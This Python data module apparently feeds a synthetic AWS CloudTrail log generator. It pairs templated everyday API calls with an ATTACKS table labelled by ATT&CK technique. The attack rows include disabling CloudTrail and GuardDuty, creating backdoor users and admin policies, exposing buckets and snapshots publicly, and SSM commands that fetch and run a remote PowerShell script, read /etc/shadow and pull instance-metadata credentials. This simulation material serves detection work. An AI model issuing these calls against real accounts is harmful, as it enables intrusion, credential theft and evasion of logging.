# ruff: noqa: E501
"""AWS API calls, daily work and attacks. A row is `service.Action`, then optional JSON of requestParameters, then
optional `! ErrorCode`. DAILY_CALLS are plain names by service whose parameters cloud_aws.py makes up.
"""
from __future__ import annotations

from .table import table

DAILY_CALLS = {
    "ec2": "DescribeInstances DescribeImages DescribeVolumes DescribeSnapshots DescribeSecurityGroups DescribeSubnets DescribeVpcs DescribeTags DescribeAddresses DescribeInstanceStatus DescribeAvailabilityZones DescribeRegions DescribeKeyPairs DescribeLaunchTemplates DescribeNetworkInterfaces DescribeRouteTables DescribeAccountAttributes DescribeInstanceTypes DescribeNatGateways CreateTags RunInstances StartInstances StopInstances RebootInstances TerminateInstances CreateVolume AttachVolume DetachVolume CreateSnapshot DeleteSnapshot CreateLaunchTemplateVersion AllocateAddress AssociateAddress CreateNetworkInterface DeleteNetworkInterface ModifyVolume CreateImage DescribeSpotPriceHistory DescribeVpcEndpoints CreateSubnet DescribeFleets",
    "s3": "ListBuckets GetBucketLocation HeadBucket GetBucketAcl GetBucketPolicyStatus GetBucketTagging GetBucketVersioning GetBucketEncryption GetObject PutObject HeadObject ListObjectsV2 ListObjects CopyObject DeleteObject CompleteMultipartUpload CreateMultipartUpload UploadPart PutBucketTagging GetBucketLogging PutBucketLifecycleConfiguration CreateBucket GetBucketPublicAccessBlock PutBucketEncryption",
    "sts": "AssumeRole AssumeRoleWithWebIdentity AssumeRoleWithSAML GetCallerIdentity GetSessionToken DecodeAuthorizationMessage",
    "iam": "ListUsers ListRoles GetRole GetUser ListAttachedRolePolicies ListInstanceProfiles GetPolicy GetPolicyVersion ListPolicies GetAccountSummary ListAccountAliases ListGroups TagRole PassRole CreateServiceLinkedRole GetInstanceProfile GenerateCredentialReport GenerateServiceLastAccessedDetails ListMFADevices ListAccessKeys GetAccessKeyLastUsed ChangePassword ListSAMLProviders SimulatePrincipalPolicy",
    "lambda": "ListFunctions20150331 GetFunction20150331v2 Invoke UpdateFunctionCode20150331v2 UpdateFunctionConfiguration20150331v2 PublishVersion20150331 GetPolicy20150331v2 CreateFunction20150331 ListTags20170331 ListEventSourceMappings20150331 CreateAlias20150331 ListLayers20181031",
    "logs": "DescribeLogGroups DescribeLogStreams CreateLogStream CreateLogGroup PutRetentionPolicy FilterLogEvents StartQuery GetQueryResults DescribeMetricFilters TagLogGroup",
    "monitoring": "PutMetricAlarm DescribeAlarms ListMetrics GetMetricData DescribeAlarmsForMetric SetAlarmState DeleteAlarms PutDashboard GetDashboard",
    "kms": "Decrypt Encrypt GenerateDataKey DescribeKey ListAliases ListKeys CreateGrant GetKeyPolicy GetKeyRotationStatus RetireGrant ReEncrypt",
    "rds": "DescribeDBInstances DescribeDBSnapshots CreateDBSnapshot DescribeDBClusters ListTagsForResource ModifyDBInstance RebootDBInstance DescribeEvents CreateDBInstance DescribePendingMaintenanceActions",
    "eks": "DescribeCluster ListClusters ListNodegroups DescribeNodegroup UpdateNodegroupVersion AccessKubernetesApi ListAddons UpdateClusterConfig",
    "ecs": "DescribeServices DescribeTasks ListTasks UpdateService RegisterTaskDefinition RunTask DescribeClusters StopTask SubmitTaskStateChange",
    "ecr": "GetAuthorizationToken BatchGetImage GetDownloadUrlForLayer DescribeRepositories PutImage InitiateLayerUpload BatchCheckLayerAvailability DescribeImageScanFindings",
    "ssm": "GetParameter GetParameters GetParametersByPath DescribeInstanceInformation UpdateInstanceInformation ListAssociations PutInventory DescribeParameters PutParameter SendCommand GetCommandInvocation ListCommands StartSession",
    "secretsmanager": "GetSecretValue DescribeSecret ListSecrets RotateSecret PutSecretValue",
    "cloudformation": "DescribeStacks CreateChangeSet ExecuteChangeSet DescribeStackEvents GetTemplate ListStacks UpdateStack CreateStack DescribeStackResources ValidateTemplate DeleteStack",
    "elasticloadbalancing": "DescribeLoadBalancers DescribeTargetGroups DescribeTargetHealth RegisterTargets DeregisterTargets CreateTargetGroup ModifyListener DescribeListeners",
    "autoscaling": "DescribeAutoScalingGroups DescribeScalingActivities UpdateAutoScalingGroup SetDesiredCapacity CompleteLifecycleAction",
    "dynamodb": "DescribeTable ListTables UpdateTable CreateBackup DescribeContinuousBackups CreateTable",
    "cloudtrail": "DescribeTrails LookupEvents GetTrailStatus GetEventSelectors ListTrails",
    "config": "DescribeConfigRules PutEvaluations DescribeConfigurationRecorders GetComplianceDetailsByConfigRule DescribeConfigurationRecorderStatus SelectResourceConfig",
    "guardduty": "ListDetectors GetFindings ListFindings GetDetector ArchiveFindings",
    "organizations": "DescribeOrganization ListAccounts ListRoots ListPolicies DescribeAccount",
    "route53": "ListHostedZones ChangeResourceRecordSets GetChange ListResourceRecordSets GetHostedZone",
    "sns": "ListTopics Publish GetTopicAttributes Subscribe CreateTopic ListSubscriptions",
    "sqs": "ListQueues GetQueueAttributes CreateQueue GetQueueUrl", "glue": "GetTables GetDatabase StartJobRun GetJobRuns GetPartitions", "athena": "StartQueryExecution GetQueryExecution GetQueryResults ListWorkGroups",
    "acm": "ListCertificates DescribeCertificate RequestCertificate", "cloudfront": "ListDistributions CreateInvalidation GetDistribution", "backup": "StartBackupJob DescribeBackupJob ListBackupPlans ListRecoveryPointsByBackupVault",
    "ce": "GetCostAndUsage GetCostForecast", "support": "DescribeTrustedAdvisorChecks DescribeCases", "health": "DescribeEventAggregates DescribeEvents", "sso": "Authenticate Federate ListAccountRoles GetRoleCredentials", "cloudshell": "CreateEnvironment GetEnvironmentStatus", "codebuild": "StartBuild BatchGetBuilds BatchGetProjects", "codepipeline": "StartPipelineExecution GetPipelineState PollForJobs",
    "cognito-idp": "AdminGetUser ListUserPools InitiateAuth DescribeUserPool", "states": "StartExecution DescribeExecution", "events": "PutRule ListRules PutTargets DescribeRule", "redshift": "DescribeClusters GetClusterCredentials", "securityhub": "GetFindings BatchImportFindings GetInsights", "servicequotas": "ListServiceQuotas RequestServiceQuotaIncrease", "tagging": "GetResources TagResources", "signin": "ConsoleLogin SwitchRole", "elasticache": "DescribeCacheClusters DescribeReplicationGroups", "wafv2": "ListWebACLs GetWebACL", "sagemaker": "ListNotebookInstances CreateTrainingJob DescribeTrainingJob", "bedrock": "InvokeModel ListFoundationModels", "ses": "GetSendQuota GetAccount ListIdentities", "workspaces": "DescribeWorkspaces", "es": "DescribeElasticsearchDomain ListDomainNames",
}

DAILY = table(r"""
# provisioning
ec2.AuthorizeSecurityGroupIngress {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":«443|80|8080|5432|3306|22»,"toPort":«443|80|8080|5432|3306|22»,"ipRanges":{"items":[{"cidrIp":"10.«num:0:255».0.0/16","description":"«word»"}]}}]}}
ec2.AuthorizeSecurityGroupIngress {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0","description":"public https"}]}}]}}
ec2.RevokeSecurityGroupIngress {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}
ec2.CreateSecurityGroup {"groupName":"«word»-«tech»-sg","groupDescription":"«word» «tech»","vpcId":"vpc-«hex:17»"}
ec2.RunInstances {"instancesSet":{"items":[{"imageId":"ami-«hex:17»","minCount":1,"maxCount":«num:1:3»,"keyName":"«word»-key"}]},"instanceType":"«t3.micro|t3.medium|m5.large|c5.xlarge|r5.large»","subnetId":"subnet-«hex:17»"}
ec2.ModifyInstanceAttribute {"instanceId":"i-«hex:17»","instanceType":{"value":"«t3.large|m5.xlarge»"}}
ec2.ModifySnapshotAttribute {"snapshotId":"snap-«hex:17»","attributeType":"CREATE_VOLUME_PERMISSION","createVolumePermission":{"add":{"items":[{"userId":"«account»"}]}}}
iam.CreateRole {"roleName":"«word»-«tech»-role","assumeRolePolicyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Service\":\"«lambda|ec2|ecs-tasks».amazonaws.com\"},\"Action\":\"sts:AssumeRole\"}]}"}
iam.AttachRolePolicy {"roleName":"«word»-«tech»","policyArn":"arn:aws:iam::aws:policy/«AmazonS3ReadOnlyAccess|CloudWatchAgentServerPolicy|AmazonSSMManagedInstanceCore|service-role/AWSLambdaBasicExecutionRole»"}
iam.PutRolePolicy {"roleName":"«word»-«tech»","policyName":"«word»-read","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"s3:GetObject\"],\"Resource\":\"arn:aws:s3:::«site»-«word»/*\"}]}"}
iam.CreateAccessKey {"userName":"«user»"}
iam.DeleteAccessKey {"userName":"«user»","accessKeyId":"AKIA«HEX:16»"}
iam.UpdateAccessKey {"userName":"«user»","accessKeyId":"AKIA«HEX:16»","status":"Inactive"}
iam.CreateUser {"userName":"«first».«last»","tags":[{"key":"team","value":"«dept»"}]}
iam.AddUserToGroup {"userName":"«other»","groupName":"«developers|readonly|billing-viewers|«dept»»"}
iam.EnableMFADevice {"userName":"«user»","serialNumber":"arn:aws:iam::«account»:mfa/«user»"}
s3.PutBucketPolicy {"bucketName":"«site»-«word»","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::«account»:role/«word»"},"Action":["s3:GetObject","s3:PutObject"],"Resource":["arn:aws:s3:::«site»-«word»/*"]}]}}
s3.PutPublicAccessBlock {"bucketName":"«site»-«word»","PublicAccessBlockConfiguration":{"BlockPublicAcls":true,"IgnorePublicAcls":true,"BlockPublicPolicy":true,"RestrictPublicBuckets":true}}
s3.PutBucketVersioning {"bucketName":"«site»-«word»","VersioningConfiguration":{"Status":"Enabled"}}
cloudtrail.CreateTrail {"name":"«org|management|audit»-trail","s3BucketName":"«site»-cloudtrail","isMultiRegionTrail":true,"enableLogFileValidation":true}
cloudtrail.StartLogging {"name":"arn:aws:cloudtrail:«region»:«account»:trail/org-trail"}
guardduty.CreateDetector {"enable":true,"findingPublishingFrequency":"FIFTEEN_MINUTES"}
lambda.AddPermission20150331v2 {"functionName":"«word»-«tech»","statementId":"AllowExecutionFromEventBridge","action":"lambda:InvokeFunction","principal":"«events|s3|apigateway».amazonaws.com"}
rds.ModifyDBInstance {"dBInstanceIdentifier":"«word»-db","backupRetentionPeriod":«num:7:35»,"applyImmediately":false,"publiclyAccessible":false}
rds.DeleteDBSnapshot {"dBSnapshotIdentifier":"rds:«word»-db-«date:%Y-%m-%d»"}
kms.EnableKeyRotation {"keyId":"«guid»"}
ssm.SendCommand {"documentName":"«AWS-RunPatchBaseline|AWS-ConfigureAWSPackage|AmazonCloudWatch-ManageAgent|AWS-UpdateSSMAgent»","targets":[{"key":"tag:Patch Group","values":["«word»"]}],"parameters":{"Operation":["Scan"]}}
ssm.StartSession {"target":"i-«hex:17»"}
secretsmanager.GetSecretValue {"secretId":"«prod|dev»/«word»/«db|api»"}
# sensitive calls in their place
kms.PutKeyPolicy {"keyId":"«guid»","policyName":"default","policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::«account»:role/«word»\"},\"Action\":[\"kms:Decrypt\"],\"Resource\":\"*\"}]}"}
ec2.CreateNetworkAclEntry {"networkAclId":"acl-«hex:17»","ruleNumber":«num:100:900»,"egress":«true|false»,"ruleAction":"«allow|deny»","aclProtocol":"6","cidrBlock":"10.«num:0:255».0.0/16","portRange":{"from":443,"to":443}}
ec2.ModifyImageAttribute {"imageId":"ami-«hex:17»","launchPermission":{"add":{"items":[{"userId":"«account»"}]}}}
rds.ModifyDBSnapshotAttribute {"dBSnapshotIdentifier":"«word»-snap","attributeName":"restore","valuesToAdd":["«account»"]}
rds.DeleteDBInstance {"dBInstanceIdentifier":"«word»-pr-«num:1:999»","skipFinalSnapshot":true}
secretsmanager.BatchGetSecretValue {"secretIdList":["«word»/«tech»","«word»/«tech»"]}
secretsmanager.DeleteSecret {"secretId":"«word»-test","recoveryWindowInDays":30}
lambda.UpdateFunctionCode20150331v2 {"functionName":"«word»-«tech»","s3Bucket":"«site»-artifacts","s3Key":"«word»/«hex:40».zip","publish":true}
lambda.AddPermission20150331v2 {"functionName":"«word»","statementId":"apigw","action":"lambda:InvokeFunction","principal":"apigateway.amazonaws.com","sourceArn":"arn:aws:execute-api:«region»:«account»:«token:10»/*"}
iam.UpdateAssumeRolePolicy {"roleName":"«word»-role","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Federated\":\"arn:aws:iam::«account»:oidc-provider/token.actions.githubusercontent.com\"},\"Action\":\"sts:AssumeRoleWithWebIdentity\"}]}"}
iam.CreatePolicyVersion {"policyArn":"arn:aws:iam::«account»:policy/«word»","setAsDefault":true,"policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"s3:GetObject\",\"s3:ListBucket\"],\"Resource\":\"arn:aws:s3:::«site»-«word»/*\"}]}"}
iam.CreateLoginProfile {"userName":"«first».«last»","passwordResetRequired":true}
iam.UpdateAccountPasswordPolicy {"minimumPasswordLength":14,"requireSymbols":true,"requireNumbers":true,"maxPasswordAge":90}
cloudtrail.UpdateTrail {"name":"org-trail","isMultiRegionTrail":true,"enableLogFileValidation":true,"kmsKeyId":"arn:aws:kms:«region»:«account»:key/«guid»"}
cloudtrail.PutEventSelectors {"trailName":"org-trail","eventSelectors":[{"readWriteType":"All","includeManagementEvents":true,"dataResources":[{"type":"AWS::S3::Object","values":["arn:aws:s3:::«site»-«word»/"]}]}]}
guardduty.UpdateDetector {"detectorId":"«hex:32»","enable":true,"findingPublishingFrequency":"SIX_HOURS"}
config.PutConfigRule {"configRule":{"configRuleName":"«word»-«tech»","source":{"owner":"AWS","sourceIdentifier":"S3_BUCKET_PUBLIC_READ_PROHIBITED"}}}
monitoring.DeleteAlarms {"alarmNames":["«word»-«tech»-pr-«num:1:900»-cpu"]}
macie2.UpdateMacieSession {"status":"ENABLED"}
s3.PutBucketPolicy {"bucketName":"«site»-cdn","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"Service":"cloudfront.amazonaws.com"},"Action":"s3:GetObject","Resource":"arn:aws:s3:::«site»-cdn/*"}]}}
s3.DeleteObjects {"bucketName":"«site»-tmp-«word»","delete":{"quiet":true}}
ec2.RunInstances {"instancesSet":{"items":[{"imageId":"ami-«hex:17»","minCount":1,"maxCount":1}]},"instanceType":"«g4dn.xlarge|p3.2xlarge»","tagSpecificationSet":{"items":[{"resourceType":"instance","tags":[{"key":"project","value":"training"}]}]}}
ec2.GetPasswordData {"instanceId":"i-«hex:17»","_identity":"IAMUser"} ! Client.InvalidInstanceID.NotFound
ec2-instance-connect.SendSSHPublicKey {"instanceId":"i-«hex:17»","instanceOSUser":"«user»"}
ssm.SendCommand {"documentName":"AWS-RunShellScript","instanceIds":["i-«hex:17»"],"parameters":{"commands":["«sudo systemctl restart nginx|df -h|sudo yum -y update|/opt/«word»/deploy.sh v«num:1:90»|docker ps»"]}}
organizations.CreateAccount {"accountName":"«word»-«tech»","email":"aws+«word»@«sitedomain»"}
# console and login
signin.ConsoleLogin {"_response":{"ConsoleLogin":"Success"},"_additional":{"MFAUsed":"Yes","MobileVersion":"No","LoginTo":"https://console.aws.amazon.com/console/home"}}
signin.ConsoleLogin {"_response":{"ConsoleLogin":"Failure"},"_error":"Failed authentication","_additional":{"MFAUsed":"Yes","MobileVersion":"No"}}
signin.SwitchRole {"_response":{"SwitchRole":"Success"},"_additional":{"SwitchFrom":"arn:aws:iam::«account»:user/«user»"}}
sts.AssumeRole {"roleArn":"arn:aws:iam::«account»:role/«word»-«tech»","roleSessionName":"««user»|botocore-session-«epoch»|terraform|GitHubActions»","durationSeconds":3600}
# denied by mistake
ec2.DescribeInstances {} ! Client.UnauthorizedOperation
s3.GetObject {"bucketName":"«site»-«word»","key":"«word»/«file»"} ! AccessDenied
s3.GetBucketPolicy {"bucketName":"«site»-«word»"} ! NoSuchBucketPolicy
iam.GetUser {"userName":"«other»"} ! NoSuchEntityException
lambda.GetFunction20150331v2 {"functionName":"«word»-«tech»"} ! ResourceNotFoundException
ec2.RunInstances {"instanceType":"m5.large"} ! Client.InsufficientInstanceCapacity
kms.Decrypt {"encryptionAlgorithm":"SYMMETRIC_DEFAULT"} ! AccessDenied
ec2.TerminateInstances {"instancesSet":{"items":[{"instanceId":"i-«hex:17»"}]}} ! Client.OperationNotPermitted
organizations.ListAccounts {} ! AccessDeniedException
ssm.GetParameter {"name":"/«word»/«tech»","withDecryption":true} ! ParameterNotFound
# clean up
ec2.DeleteVolume {"volumeId":"vol-«hex:17»"}
ec2.DeleteSecurityGroup {"groupId":"sg-«hex:17»"}
s3.DeleteBucket {"bucketName":"«site»-tmp-«hex:6»"}
logs.DeleteLogGroup {"logGroupName":"/aws/lambda/«word»-pr-«num:1:900»"}
cloudformation.DeleteStack {"stackName":"«word»-pr-«num:1:900»"}
iam.DeleteRole {"roleName":"«word»-test-role"}
ec2.DeregisterImage {"imageId":"ami-«hex:17»"}
lambda.DeleteFunction20150331 {"functionName":"«word»-pr-«num:1:900»"}
""")

ATTACKS = table(r"""
# T1562.008 logging disabled
cloudtrail.StopLogging {"name":"«arn:aws:cloudtrail:«region»:«account»:trail/«word»|management-trail|org-trail»"}
cloudtrail.DeleteTrail {"name":"«management|org|«word»»-trail"}
cloudtrail.UpdateTrail {"name":"«word»-trail","isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"s3BucketName":"«letters:8»-logs"}
cloudtrail.PutEventSelectors {"trailName":"«word»-trail","eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":false}]}
logs.DeleteLogGroup {"logGroupName":"«/aws/cloudtrail/«word»|CloudTrail/DefaultLogGroup|/vpc/flowlogs|/aws/eks/«word»/cluster»"}
logs.DeleteLogStream {"logGroupName":"CloudTrail","logStreamName":"«account»_CloudTrail_«region»"}
ec2.DeleteFlowLogs {"DeleteFlowLogsRequest":{"FlowLogId":{"tag":1,"content":"fl-«hex:17»"}}}
s3.PutBucketLifecycle {"bucketName":"«site»-cloudtrail-logs","LifecycleConfiguration":{"Rule":{"Status":"Enabled","Prefix":"","Expiration":{"Days":1},"ID":"«letters:6»"}}}
s3.DeleteBucketLogging {"bucketName":"«site»-«word»"}
route53resolver.DeleteResolverQueryLogConfig {"resolverQueryLogConfigId":"rqlc-«hex:16»"}
# T1562.001 security tools disabled
guardduty.DeleteDetector {"detectorId":"«hex:32»"}
guardduty.UpdateDetector {"detectorId":"«hex:32»","enable":false}
guardduty.CreateIPSet {"detectorId":"«hex:32»","name":"«letters:5»","format":"TXT","location":"https://s3.amazonaws.com/«letters:9»/ips.txt","activate":true}
guardduty.DisassociateFromMasterAccount {"detectorId":"«hex:32»"}
guardduty.CreateFilter {"detectorId":"«hex:32»","name":"«letters:5»","action":"ARCHIVE","findingCriteria":{"criterion":{"severity":{"gte":1}}}}
config.StopConfigurationRecorder {"configurationRecorderName":"default"}
config.DeleteConfigurationRecorder {"configurationRecorderName":"default"}
config.DeleteDeliveryChannel {"deliveryChannelName":"default"}
config.DeleteConfigRule {"configRuleName":"«cloudtrail-enabled|root-mfa|«word»»"}
securityhub.DisableSecurityHub {}
macie2.DisableMacie {}
monitoring.DisableAlarmActions {"alarmNames":["«root-login|unauthorized-api|«word»»"]}
monitoring.DeleteAlarms {"alarmNames":["«root-account-usage|iam-policy-changes|UnauthorizedAPICalls»"]}
wafv2.DeleteWebACL {"name":"«word»","scope":"REGIONAL","id":"«guid»"}
wafv2.DisassociateWebACL {"resourceArn":"arn:aws:elasticloadbalancing:«region»:«account»:loadbalancer/app/«word»/«hex:16»"}
organizations.LeaveOrganization {}
access-analyzer.DeleteAnalyzer {"analyzerName":"«word»"}
inspector2.Disable {"resourceTypes":["EC2","ECR"]}
events.DisableRule {"name":"«guardduty-to-sns|security-alerts»"}
# T1098.001 access key for another user
iam.CreateAccessKey {"userName":"«admin|«other»|root|«svc»»"}
iam.CreateLoginProfile {"userName":"««svc»|«other»»","passwordResetRequired":false}
iam.UpdateLoginProfile {"userName":"««other»|«admin»»","passwordResetRequired":false}
iam.UploadSSHPublicKey {"userName":"«other»","sSHPublicKeyBody":"ssh-rsa «b64:80»"}
ec2.ImportKeyPair {"keyName":"«letters:5»","publicKeyMaterial":"c3NoLXJzYSBBQUFB«b64:60»"}
ec2-instance-connect.SendSSHPublicKey {"instanceId":"i-«hex:17»","instanceOSUser":"«root|ec2-user|ubuntu»","sSHPublicKey":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5«b64:40»"}
ec2-instance-connect.SendSerialConsoleSSHPublicKey {"instanceId":"i-«hex:17»","serialPort":0,"sSHPublicKey":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5«b64:40»"}
ec2.EnableSerialConsoleAccess {}
rolesanywhere.CreateTrustAnchor {"name":"«letters:6»","source":{"sourceType":"CERTIFICATE_BUNDLE"},"enabled":true}
# T1136.003 backdoor user
iam.CreateUser {"userName":"«backdoor|support|aws-support|sysadmin1|test|«letters:6»|svc-«letters:4»|admin2|adminz»"}
iam.CreateUser {"userName":"«letters:8»"} ! AccessDenied
# T1098.003 administrator rights
iam.AttachUserPolicy {"userName":"««other»|«user»|«letters:6»»","policyArn":"arn:aws:iam::aws:policy/«AdministratorAccess|IAMFullAccess|PowerUserAccess»"}
iam.AttachRolePolicy {"roleName":"«word»-«tech»","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}
iam.AttachGroupPolicy {"groupName":"«developers|«dept»»","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}
iam.PutUserPolicy {"userName":"«user»","policyName":"«letters:6»","policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
iam.PutRolePolicy {"roleName":"«word»","policyName":"«letters:6»","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"iam:*\",\"sts:AssumeRole\"],\"Resource\":\"*\"}]}"}
iam.CreatePolicyVersion {"policyArn":"arn:aws:iam::«account»:policy/«word»","setAsDefault":true,"policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
iam.SetDefaultPolicyVersion {"policyArn":"arn:aws:iam::«account»:policy/«word»","versionId":"v1"}
iam.AddUserToGroup {"userName":"«user»","groupName":"«Administrators|admins|root»"}
iam.UpdateAssumeRolePolicy {"roleName":"«word»-admin","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"«arn:aws:iam::«num:100000000000:999999999999»:root|*»\"},\"Action\":\"sts:AssumeRole\"}]}"}
iam.CreateRole {"roleName":"«letters:7»","assumeRolePolicyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::«num:100000000000:999999999999»:root\"},\"Action\":\"sts:AssumeRole\"}]}"}
iam.DeleteRolePermissionsBoundary {"roleName":"«word»"}
iam.CreateSAMLProvider {"name":"«letters:6»","sAMLMetadataDocument":"<EntityDescriptor entityID=\"https://«domain»\">"}
lambda.AddPermission20150331v2 {"functionName":"«word»","statementId":"«letters:6»","action":"lambda:InvokeFunction","principal":"«*|«num:100000000000:999999999999»»"}
iam.DeactivateMFADevice {"userName":"«other»","serialNumber":"arn:aws:iam::«account»:mfa/«other»"}
iam.DeleteVirtualMFADevice {"serialNumber":"arn:aws:iam::«account»:mfa/«admin»"}
iam.DeleteAccountPasswordPolicy {}
iam.UpdateAccountPasswordPolicy {"minimumPasswordLength":6,"requireSymbols":false,"requireNumbers":false}
# T1552 secrets taken
secretsmanager.GetSecretValue {"secretId":"«prod|payments|root»/«word»/«db|api|master»","_agent":"odd"}
secretsmanager.BatchGetSecretValue {"filters":[{"key":"tag-key","values":["«word»","!«word»"]}],"maxResults":20}
secretsmanager.PutResourcePolicy {"secretId":"«word»","resourcePolicy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"*\"},\"Action\":\"secretsmanager:*\"}]}"}
ec2.GetPasswordData {"instanceId":"i-«hex:17»"} ! Client.UnauthorizedOperation
ec2.GetPasswordData {"instanceId":"i-«hex:17»"}
ec2.DescribeInstanceAttribute {"instanceId":"i-«hex:17»","attribute":"userData"}
ssm.GetParameters {"names":["/prod/db/password","/credentials/«word»/«word»","/credentials/«word»/«word»"],"withDecryption":true,"_agent":"odd"}
lambda.GetFunction20150331v2 {"functionName":"«word»-«tech»","_agent":"odd"}
sts.GetFederationToken {"name":"«letters:6»","policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
sts.GetSessionToken {"durationSeconds":129600,"_agent":"odd"}
# T1530 data opened or copied
s3.PutBucketPolicy {"bucketName":"«site»-«word»","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"*","Action":["s3:GetObject","s3:ListBucket"],"Resource":["arn:aws:s3:::«site»-«word»/*"]}]}}
s3.PutBucketPolicy {"bucketName":"«site»-«word»","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::«num:100000000000:999999999999»:root"},"Action":"s3:*","Resource":"*"}]}}
s3.PutBucketAcl {"bucketName":"«site»-«word»","AccessControlPolicy":{"AccessControlList":{"Grant":{"Grantee":{"URI":"http://acs.amazonaws.com/groups/global/AllUsers"},"Permission":"«READ|FULL_CONTROL|WRITE»"}}}}
s3.PutObjectAcl {"bucketName":"«site»-«word»","key":"«file»","x-amz-acl":"public-read"}
s3.DeletePublicAccessBlock {"bucketName":"«site»-«word»"}
s3.PutAccountPublicAccessBlock {"PublicAccessBlockConfiguration":{"BlockPublicAcls":false,"IgnorePublicAcls":false,"BlockPublicPolicy":false,"RestrictPublicBuckets":false}}
s3.PutBucketReplication {"bucketName":"«site»-«word»","ReplicationConfiguration":{"Role":"arn:aws:iam::«account»:role/«word»","Rule":{"Status":"Enabled","Destination":{"Bucket":"arn:aws:s3:::«letters:10»","Account":"«num:100000000000:999999999999»"}}}}
ec2.ModifySnapshotAttribute {"snapshotId":"snap-«hex:17»","attributeType":"CREATE_VOLUME_PERMISSION","createVolumePermission":{"add":{"items":[{«"group":"all"|"userId":"«num:100000000000:999999999999»"»}]}}}
ec2.ModifyImageAttribute {"imageId":"ami-«hex:17»","launchPermission":{"add":{"items":[{«"group":"all"|"userId":"«num:100000000000:999999999999»"»}]}},"attributeType":"launchPermission"}
rds.ModifyDBSnapshotAttribute {"dBSnapshotIdentifier":"«word»-snap","attributeName":"restore","valuesToAdd":["«all|«num:100000000000:999999999999»»"]}
rds.ModifyDBInstance {"dBInstanceIdentifier":"«word»-db","masterUserPassword":"****","publiclyAccessible":true,"applyImmediately":true}
rds.StartExportTask {"exportTaskIdentifier":"«letters:6»","sourceArn":"arn:aws:rds:«region»:«account»:snapshot:«word»","s3BucketName":"«letters:9»"}
ec2.CreateInstanceExportTask {"instanceId":"i-«hex:17»","targetEnvironment":"vmware","exportToS3":{"s3Bucket":"«letters:10»","diskImageFormat":"VMDK"}}
ec2.SharedSnapshotVolumeCreated {"snapshotId":"snap-«hex:17»"}
ec2.CreateTrafficMirrorSession {"CreateTrafficMirrorSessionRequest":{"NetworkInterfaceId":"eni-«hex:17»","SessionNumber":1}}
ecr.SetRepositoryPolicy {"repositoryName":"«word»","policyText":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"ecr:*\"}]}"}
glacier.SetVaultAccessPolicy {"vaultName":"«word»","policy":{"Policy":"{\"Statement\":[{\"Principal\":\"*\",\"Action\":\"glacier:*\"}]}"}}
# T1562.007 firewall opened
ec2.AuthorizeSecurityGroupIngress {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"«tcp|-1»","fromPort":«22|3389|0|3306|5432|1433|445»,"toPort":«22|3389|65535|3306|5432»,"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}
ec2.AuthorizeSecurityGroupIngress {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"ipRanges":{"items":[{"cidrIp":"«pub»/32"}]}}]},"_agent":"odd"}
ec2.CreateNetworkAclEntry {"networkAclId":"acl-«hex:17»","ruleNumber":1,"egress":false,"ruleAction":"allow","aclProtocol":"-1","cidrBlock":"0.0.0.0/0"}
ec2.DeleteNetworkAcl {"networkAclId":"acl-«hex:17»"}
ec2.ModifyInstanceMetadataOptions {"ModifyInstanceMetadataOptionsRequest":{"InstanceId":"i-«hex:17»","HttpTokens":"optional"}}
# T1059.009 commands on instances
ssm.SendCommand {"documentName":"AWS-RunShellScript","instanceIds":["i-«hex:17»","i-«hex:17»","i-«hex:17»"],"parameters":{"commands":["«shbadtext2»"]}}
ssm.SendCommand {"documentName":"AWS-RunPowerShellScript","instanceIds":["i-«hex:17»"],"parameters":{"commands":["IEX (New-Object Net.WebClient).DownloadString('http://«peer»/«letters:4».ps1')"]}}
ssm.SendCommand {"documentName":"AWS-RunShellScript","targets":[{"key":"InstanceIds","values":["*"]}],"parameters":{"commands":["«id; whoami|cat /etc/shadow|curl http://«imds»/latest/meta-data/iam/security-credentials/»"]}}
ec2.ModifyInstanceAttribute {"instanceId":"i-«hex:17»","userData":"<sensitiveDataRemoved>"}
ec2.AssociateIamInstanceProfile {"AssociateIamInstanceProfileRequest":{"InstanceId":"i-«hex:17»","IamInstanceProfile":{"Name":"«admin|AdminRole|power»-profile"}}}
lambda.UpdateFunctionCode20150331v2 {"functionName":"«word»-«tech»","_agent":"odd"}
